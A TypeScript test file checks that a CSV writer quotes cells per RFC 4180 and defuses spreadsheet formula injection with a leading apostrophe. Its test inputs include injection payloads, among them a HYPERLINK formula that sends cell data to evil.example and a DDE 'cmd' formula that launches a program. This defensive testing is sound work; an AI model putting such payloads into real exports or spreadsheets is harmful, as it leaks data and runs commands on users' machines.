import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvOf } from '../../../src/core/integrate/csv.js';
import type { Table } from '../../../src/core/integrate/table.js';
import type { Json } from '../../../src/core/outcome/canonical.js';

const csv = (columns: readonly string[], ...rows: readonly (readonly (Json | undefined)[])[]) =>
  csvOf({ name: 'rows', columns, rows });

/** A reader of RFC 4180, letter by letter. */
function read(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') cell += text[++i];
    else if (c === '"') quoted = !quoted;
    else if (quoted) cell += c;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (row.length > 0 || cell !== '' || quoted) throw new Error('the last line has no end');
  return rows;
}

describe('a table as CSV', () => {
  it('has a line of columns and one for each row, ended by CR LF, quoted only where it has to be', () => {
    expect(csv(['vendor', 'note'], ['DBOS', 'a "b", c'], ['Restate', 'two\nlines'], ['x', ' y'])).toBe(
      'vendor,note\r\nDBOS,"a ""b"", c"\r\nRestate,"two\nlines"\r\nx," y"\r\n',
    );
  });

  it('keeps numbers and truth as they are, writes what is nested as JSON, and leaves out what is not there', () => {
    const nested = { by: ['dig[a]'], n: 1 };
    expect(csv(['a', 'b', 'c', 'd', 'e', 'f'], [-5, 1.5e-7, true, nested, null, undefined])).toBe(
      'a,b,c,d,e,f\r\n-5,1.5e-7,true,"{""by"":[""dig[a]""],""n"":1}",,\r\n',
    );
    expect(csv(['a', 'b'], ['', null])).toBe('a,b\r\n"",\r\n');
  });

  it('has no empty line, which would be no row', () => {
    expect(csv(['value'], [null], ['x'])).toBe('value\r\n""\r\nx\r\n');
  });

  it.each([
    '=1+1',
    '+49 30 1234',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '=HYPERLINK("https://evil.example?"&A1,"see")',
    "=cmd|'/c calc'!A1",
  ])('defuses the text %j by an apostrophe, in a cell and in a column', (text) => {
    expect(read(csv([text], [text]))).toEqual([[`'${text}`], [`'${text}`]]);
  });

  it('gives every text back to a reader, but for the apostrophe of those that could be formulas', () => {
    const word = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.stringMatching(/^[",\r\n\t =+\-@'a1]{0,6}$/),
      fc.constantFrom('', ' ', '\r\n', '"', '""', ','),
    );
    const table = fc.integer({ min: 1, max: 4 }).chain((width) => {
      const row = fc.array(word, { minLength: width, maxLength: width });
      return fc.record({ name: fc.constant('rows'), columns: row, rows: fc.array(row, { maxLength: 4 }) });
    });
    fc.assert(
      fc.property(table, (given: Table) => {
        const wanted = [given.columns, ...(given.rows as readonly (readonly string[])[])];
        const got = read(csvOf(given));
        expect(got.map(({ length }) => length)).toEqual(wanted.map(({ length }) => length));
        const texts = wanted.flat();
        const astray = got.flat().filter((cell, n) => cell !== texts[n] && cell !== `'${texts[n]}`);
        const formulas = got.flat().filter((cell) => /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(cell));
        expect({ astray, formulas }).toEqual({ astray: [], formulas: [] });
      }),
      { numRuns: 100 },
    );
  });
});
